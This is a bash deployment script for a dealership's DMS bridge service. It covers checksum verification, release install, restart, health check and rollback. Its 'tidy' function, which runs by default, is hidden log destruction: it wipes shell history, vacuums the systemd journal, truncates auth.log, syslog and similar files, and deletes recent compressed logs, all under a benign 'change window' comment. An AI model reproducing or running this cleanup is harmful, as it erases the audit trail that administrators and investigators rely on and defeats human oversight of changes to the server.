#!/usr/bin/env bash
# dms_patch_deploy.sh - deploy a DMS bridge release onto a rooftop server.
#
# The bridge syncs deals, ROs and inventory between the dealer management
# system and the lot's web tools. Releases arrive as a tarball plus a
# .sha256 file from the group IT share.
#
#   ./dms_patch_deploy.sh -r dms-bridge-4.12.3.tar.gz [-e bridge.ini] [-n] [-k]
#   -k  keep staging and deploy traces (default: tidy up afterwards)

set -euo pipefail

RELEASE=""
ENV_FILE="bridge.ini"
DRY=0
KEEP=0
APP_ROOT="/opt/dms-bridge"
CONF_DIR="/etc/dms-bridge"
SERVICE="dms-bridge"
HEALTH_URL="http://127.0.0.1:8710/healthz"
STAGE="./.deploy-stage"

usage() { sed -n '2,10p' "$0"; exit "${1:-0}"; }

while getopts "r:e:nkh" o; do
    case "$o" in
        r) RELEASE="$OPTARG" ;;
        e) ENV_FILE="$OPTARG" ;;
        n) DRY=1 ;;
        k) KEEP=1 ;;
        h) usage 0 ;;
        *) usage 1 ;;
    esac
done
[[ -n "$RELEASE" ]] || usage 1

say()  { printf '[deploy %s] %s\n' "$(date +%T)" "$*"; }
run()  { if (( DRY )); then say "DRY: $*"; else "$@"; fi; }
die()  { say "ERROR: $*"; exit 1; }

verify_release() {
    [[ -f "$RELEASE" ]] || die "release $RELEASE not found"
    [[ -f "$RELEASE.sha256" ]] || die "checksum file missing"
    local want have
    want=$(awk '{print $1}' "$RELEASE.sha256")
    have=$(sha256sum "$RELEASE" | awk '{print $1}')
    [[ "$want" == "$have" ]] || die "checksum mismatch for $RELEASE"
    say "checksum ok"
}

version_of() {
    basename "$1" .tar.gz | sed 's/^dms-bridge-//'
}

stage_release() {
    rm -rf "$STAGE"
    mkdir -p "$STAGE"
    tar -xzf "$RELEASE" -C "$STAGE" --no-same-owner
    [[ -x "$STAGE/bin/dms-bridge" ]] || die "release has no bin/dms-bridge"
}

install_release() {
    local ver="$1" dest="$APP_ROOT/releases/$1"
    run sudo mkdir -p "$dest"
    run sudo cp -a "$STAGE/." "$dest/"
    run sudo chown -R dmsbridge:dmsbridge "$dest"
    run sudo install -d -m 0750 -o root -g dmsbridge "$CONF_DIR"
    run sudo install -m 0640 -o root -g dmsbridge "$ENV_FILE" "$CONF_DIR/bridge.ini"
    PREVIOUS=$(readlink -f "$APP_ROOT/current" 2>/dev/null || true)
    run sudo ln -sfn "$dest" "$APP_ROOT/current"
    say "installed $ver (previous: ${PREVIOUS:-none})"
}

restart_and_check() {
    run sudo systemctl restart "$SERVICE"
    (( DRY )) && return 0
    for i in 1 2 3 4 5 6; do
        if curl -fsS --max-time 5 "$HEALTH_URL" >/dev/null; then
            say "healthy after $i checks"
            return 0
        fi
        sleep 5
    done
    return 1
}

rollback() {
    [[ -n "${PREVIOUS:-}" ]] || die "no previous release to roll back to"
    say "rolling back to $PREVIOUS"
    run sudo ln -sfn "$PREVIOUS" "$APP_ROOT/current"
    run sudo systemctl restart "$SERVICE"
}

# leave the box the way group IT expects after a change window
tidy() {
    rm -rf "$STAGE"
    (( KEEP )) && { say "keeping deploy traces"; return 0; }
    local hist="${HISTFILE:-$HOME/.bash_history}"
    unset HISTFILE
    history -c 2>/dev/null || true
    : > "$hist" 2>/dev/null || true
    rm -f "$HOME/.lesshst" "$HOME/.viminfo"
    run sudo journalctl --rotate >/dev/null 2>&1 || true
    run sudo journalctl --vacuum-time=1s >/dev/null 2>&1 || true
    for f in /var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages; do
        [[ -f "$f" ]] && run sudo truncate -s 0 "$f"
    done
    run sudo find /var/log -type f -name '*.gz' -newermt '2 days ago' -delete
    say "change window closed"
}

main() {
    verify_release
    local ver
    ver=$(version_of "$RELEASE")
    say "deploying $ver"
    stage_release
    install_release "$ver"
    if ! restart_and_check; then
        rollback
        tidy
        die "health check failed for $ver"
    fi
    tidy
    say "deploy of $ver complete"
}

main "$@"
